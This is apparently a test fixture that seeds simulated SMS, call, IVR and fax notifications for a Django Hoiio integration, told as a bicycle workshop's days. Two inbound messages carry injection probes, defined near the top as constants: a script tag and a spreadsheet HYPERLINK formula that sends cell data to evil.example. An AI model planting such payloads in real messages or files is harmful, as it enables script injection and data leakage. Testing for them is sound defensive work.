@@ -1,0 +1,287 @@
+"""Some days of a bicycle workshop with a shop abroad: what its customers said, what it sent, what went wrong."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from datetime import datetime, timedelta, timezone
+from functools import partial
+from operator import itemgetter
+from random import Random
+from typing import Any
+from urllib.parse import urlencode
+
+from django.db.models import F
+
+from django_hoiio import inbox
+from django_hoiio.kinds import Kind, Proof
+from django_hoiio.models import Notification, ReceiverFailure, Sms
+from django_hoiio.recording.sending import enter
+from django_hoiio.retention.totals import close
+from django_hoiio.signals import sms_received, sms_status
+from tests.conftest import FORM, arrival
+
+MEI = "+6591234567"
+STRANGER = "+6598765432"
+OURS = "+6562221000"
+ABROAD = "batam"
+BULK = "AA-B-2041"
+
+SCRIPT = "<script>document.title = 'owned'</script>"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+SECRET = "My door code is 4711, please ring twice."
+RECORDING = "https://recordings.example.com/rec-8812.mp3"
+ACCOUNTS = {
+    "default": {"APP_ID": "workshop", "ACCESS_TOKEN": "token"},
+    ABROAD: {"APP_ID": "shop", "ACCESS_TOKEN": "other token"},
+}
+
+# Of Hoiio, and of the workshop, which is in Singapore.
+TIME_ZONE = "Asia/Singapore"
+CLOCK = timezone(timedelta(hours=8))
+# What an SMS and a minute cost, by account.
+_PRICES = {"default": ("SGD", 0.032, 0.018), ABROAD: ("USD", 0.025, 0.041)}
+_OUTCOMES = ["answered"] * 7 + ["unanswered", "unanswered", "busy"]
+_QUESTIONS = [
+    "Is my bike ready?",
+    "How much is a new chain?",
+    "Are you open on Sunday?",
+    "Flat tyre again. Can I come by today?",
+    "Thanks, see you at five!",
+]
+_TAGS = ["order", "reminder", "invoice"]
+
+
+class Workshop:
+    """Lets the days go by; the same ones each time, up to now."""
+
+    def __init__(self, days: int) -> None:
+        self.days = days
+        self.random = Random(7)
+        self.count = 0
+        # When each call, SMS or fax began, which all that is said of it repeats.
+        self.began: dict[str | None, datetime] = {}
+        self.plan: list[tuple[datetime, Callable[[], object]]] = []
+        self.now = datetime.now(CLOCK)
+
+    def open(self) -> None:
+        """Live through the days, and close their totals."""
+        for ago in reversed(range(self.days + 1)):
+            self._day(self._at(ago, 8))
+        self._bulk(self._at(2, 10))
+        self._mei()
+        self._strangers()
+        with _listening():
+            for moment, happen in sorted(self.plan, key=itemgetter(0)):
+                if moment < self.now:
+                    happen()
+        # What was told at once was told so then, not while this was made.
+        Notification.objects.update(dispatched_at=F("received_at") + timedelta(milliseconds=40), claimed_until=None)
+        for failure in ReceiverFailure.objects.select_related("notification"):
+            failure.failed_at = failure.notification.received_at + timedelta(milliseconds=35)
+            failure.save()
+        _mend(ReceiverFailure.objects.filter(notification__txn_ref="AA-SI-9001"))
+        close()
+
+    # What comes each day.
+
+    def _day(self, morning: datetime) -> None:
+        weight = 0.25 if morning.weekday() == 6 else 0.8 + self.random.random() * 0.6
+        for _ in range(round(16 * weight)):
+            self._sms_sent(self._soon(morning), "default")
+        for _ in range(round(6 * weight)):
+            self._sms_sent(self._soon(morning), ABROAD)
+        for _ in range(round(7 * weight)):
+            self._sms_received(self._soon(morning))
+        for _ in range(round(8 * weight)):
+            self._call(self._soon(morning), self.random.choice(["default", "default", ABROAD]))
+        for _ in range(round(self.random.random() * 6 * weight)):
+            self._menu(self._soon(morning))
+        for _ in range(round(self.random.random() * 3 * weight)):
+            self._fax(self._soon(morning))
+
+    def _sms_sent(self, moment: datetime, account: str) -> None:
+        currency, price, _minute = _PRICES[account]
+        named = {
+            **self._named("AA-S", moment),
+            "dest": self._number(account),
+            "tag": f"{self.random.choice(_TAGS)} {self.random.randint(1200, 4800)}",
+            "currency": currency,
+            "rate": price,
+        }
+        self.say(moment, "sms", {**named, "sms_status": "queued"}, account)
+        end = self.random.choices(["delivered", "failed", ""], [93, 7, 0.4])[0]
+        if end:
+            self.say(moment + timedelta(seconds=9), "sms", {**named, "sms_status": end, "debit": price}, account)
+
+    def _sms_received(self, moment: datetime) -> None:
+        said = {"from": self._number("default"), "to": OURS, "msg": self.random.choice(_QUESTIONS)}
+        self.say(moment, "sms", {**self._named("AA-SI", moment), **said, "debit": 0.013, "currency": "SGD"})
+
+    def _call(self, moment: datetime, account: str) -> None:
+        currency, _price, minute = _PRICES[account]
+        outcome = self.random.choice(_OUTCOMES)
+        minutes = self.random.randint(1, 12) if outcome == "answered" else 0
+        said = {
+            "dest1": OURS,
+            "dest2": self._number(account),
+            "call_status_dest1": "answered",
+            "call_status_dest2": outcome,
+            "duration": minutes,
+            "rate": minute,
+            "debit": f"{minute * minutes:.3f}",
+            "currency": currency,
+        }
+        self.say(moment, "voice", {**self._named("AA-C", moment), **said}, account)
+
+    def _menu(self, moment: datetime, number: str = "", recording: str = "", digits: str = "1") -> None:
+        """Somebody calls, presses a key and leaves a message; now and then one has hung up before that."""
+        named = self._named("AA-C", moment)
+        call = {**named, "session": f"S-{named['txn_ref'][5:]}", "from": number or self._number("default"), "to": OURS}
+        self.say(moment, "ivr", {**call, "ivr_block": "answer", "call_state": "ringing"})
+        if not number and self.random.random() < 0.15:
+            self.say(moment + timedelta(seconds=9), "ivr", {**call, "call_state": "ended", "duration": 0})
+            return
+        pressed = moment + timedelta(seconds=14)
+        self.say(pressed, "ivr", {**call, "ivr_block": "gather", "call_state": "ongoing", "digits": digits})
+        if recording:
+            recorded = {"ivr_block": "record", "call_state": "ongoing", "record_url": recording}
+            self.say(moment + timedelta(seconds=58), "ivr", {**call, **recorded})
+        ended = {"call_state": "ended", "duration": 2, "debit": 0.036, "currency": "SGD"}
+        self.say(moment + timedelta(seconds=71), "ivr", {**call, **ended})
+
+    def _fax(self, moment: datetime, number: str = "") -> None:
+        said = {
+            "from": number or self._number("default"),
+            "to": OURS,
+            "fax_status": "answered",
+            "fax_pages": self.random.randint(1, 4),
+            "fax_url": f"https://faxes.example.com/fax-{self.count}.pdf",
+        }
+        self.say(moment, "fax", {**self._named("AA-C", moment), **said, "debit": 0.05, "currency": "SGD"})
+
+    # What the pictures and the tests look at.
+
+    def _bulk(self, moment: datetime) -> None:
+        """36 messages sent at once, of which some are refused, some fail, and a few are on their way."""
+        for place in range(36):
+            number = {"dest": self._number("default"), "bulk_txn_ref": BULK}
+            if place % 16 == 15:
+                self.say(moment, "sms", {**number, "status": "error_dest_not_supported"})
+                continue
+            named = {**number, "txn_ref": f"AA-S-70{place:02}"}
+            self.say(moment, "sms", {**named, "status": "success_ok"})
+            end = {3: "failed", 17: "failed", 26: "failed", 33: "queued", 34: "queued"}
+            said = {"sms_status": end.get(place, "delivered"), "tag": "autumn check", "currency": "SGD", "debit": 0.032}
+            self.say(moment + timedelta(seconds=5), "sms", {**named, **said})
+
+    def _mei(self) -> None:
+        """A customer asks, is answered, calls, and leaves a message."""
+        first, second = self._at(3, 9), self._at(1, 11)
+        asked = {"from": MEI, "to": OURS, "debit": 0.013, "currency": "SGD"}
+        text = "Hello! The chain came off again on the way home. When could I bring the bike in?"
+        self.say(first, "sms", {**asked, "txn_ref": "AA-SI-9001", "msg": text})
+        self._answer(
+            "AA-S-9002",
+            first + timedelta(minutes=4),
+            "Hello Mei, sorry to hear that. Tomorrow from nine, and it is ready in the afternoon. Your workshop",
+        )
+        self._menu(first + timedelta(hours=6), MEI, RECORDING, "2")
+        self._fax(first + timedelta(hours=7), MEI)
+        self._answer(
+            "AA-S-9003",
+            second,
+            "Your bicycle is ready: new chain and cassette, 86.50 SGD. We are open until seven.",
+            is_late=True,
+        )
+        self.say(
+            second + timedelta(minutes=9), "sms", {**asked, "txn_ref": "AA-SI-9004", "msg": "Great, I come at six."}
+        )
+        missed = {"dest1": OURS, "dest2": MEI, "call_status_dest1": "answered", "call_status_dest2": "unanswered"}
+        charge = {"duration": 0, "debit": "0.000", "currency": "SGD"}
+        self.say(second + timedelta(hours=8), "voice", {"txn_ref": "AA-C-9005", **missed, **charge})
+        self.say(self.now - timedelta(minutes=3), "sms", {**asked, "txn_ref": "AA-SI-9006", "msg": SECRET})
+
+    def _answer(self, txn_ref: str, moment: datetime, msg: str, *, is_late: bool = False) -> None:
+        """An SMS of the workshop's own; where it is late, one of its reports overtakes another."""
+        self.plan.append((moment, partial(_send, txn_ref, moment, msg)))
+        named = {"txn_ref": txn_ref, "dest": MEI, "tag": "order 3117", "currency": "SGD", "rate": 0.032}
+        reports: list[dict[str, object]] = [{"sms_status": "queued"}, {"sms_status": "delivered", "debit": 0.032}]
+        if is_late:
+            reports += [{"sms_status": "queued", "split_count": "one"}]
+        for place, report in enumerate(reports):
+            after = timedelta(seconds=2 + 4 * place)
+            self.say(moment + after, "sms", {**named, **report}, query="counter=3", pass_on={"order": "3117"})
+
+    def _strangers(self) -> None:
+        """Somebody who tries whether a text is run."""
+        for txn_ref, msg in (("AA-SI-9101", SCRIPT), ("AA-SI-9102", FORMULA)):
+            said = {"from": STRANGER, "to": OURS, "msg": msg, "txn_ref": txn_ref, "debit": 0.013, "currency": "SGD"}
+            self.say(self._at(1, 13), "sms", said)
+
+    # How it is said.
+
+    def say(
+        self,
+        moment: datetime,
+        route: str,
+        said: dict[str, Any],
+        account: str = "default",
+        query: str = "",
+        **fields: Any,
+    ) -> None:
+        """Plan a notification as Hoiio would have posted it then."""
+        began = self.began.setdefault(said.get("txn_ref"), moment)
+        date = {"date": began.astimezone(CLOCK).strftime("%Y-%m-%d %H:%M:%S")}
+        came = {"received_at": moment, "account": account, "proof": Proof.URL, "remote_addr": "203.0.113.7"}
+        headers = {"Content-Type": FORM, "User-Agent": "Hoiio/1.0"}
+        came_in = arrival(route, query, urlencode({**said, **date}), **came, headers=headers, **fields)
+        self.plan.append((moment, partial(inbox.receive, came_in)))
+
+    def _named(self, prefix: str, moment: datetime) -> dict[str, Any]:
+        self.count += 1
+        return {"txn_ref": f"{prefix}-{3000 + self.count}"}
+
+    def _number(self, account: str) -> str:
+        if account == ABROAD:
+            return f"+62811{self.random.randint(1_000_000, 9_999_999)}"
+        return f"+659{self.random.randint(1_000_000, 9_999_999)}"
+
+    def _at(self, ago: int, hour: int) -> datetime:
+        """An hour of a day so long ago, by the workshop's clock."""
+        return (self.now - timedelta(days=ago)).replace(hour=hour, minute=12, second=31, microsecond=0)
+
+    def _soon(self, morning: datetime) -> datetime:
+        return morning + timedelta(seconds=self.random.randint(0, 10 * 3600))
+
+
+@contextmanager
+def _listening() -> Iterator[None]:
+    """The workshop's receivers: one notes each SMS, one answers and can't where it does not know the customer."""
+
+    def note(**arguments: Any) -> None:
+        pass
+
+    def answer(sms: Sms, **arguments: Any) -> None:
+        if sms.other_number in (MEI, STRANGER):
+            raise LookupError(f"no order of {sms.other_number}")
+
+    sms_status.connect(note, dispatch_uid="workshop.orders.note")
+    sms_received.connect(note, dispatch_uid="workshop.orders.note")
+    sms_received.connect(answer, dispatch_uid="workshop.receivers.answer")
+    yield
+    for signal, uid in (
+        (sms_status, "workshop.orders.note"),
+        (sms_received, "workshop.orders.note"),
+        (sms_received, "workshop.receivers.answer"),
+    ):
+        signal.disconnect(dispatch_uid=uid)
+
+
+def _send(txn_ref: str, moment: datetime, msg: str) -> None:
+    enter(Kind.SMS_STATUS, "default", txn_ref, {"dest": MEI, "msg": msg, "tag": "order 3117"})
+    Sms.objects.filter(txn_ref=txn_ref).update(created_at=moment, updated_at=moment)
+
+
+def _mend(failures: Any) -> None:
+    failures.update(attempts=2, mended_at=F("failed_at") + timedelta(minutes=5))
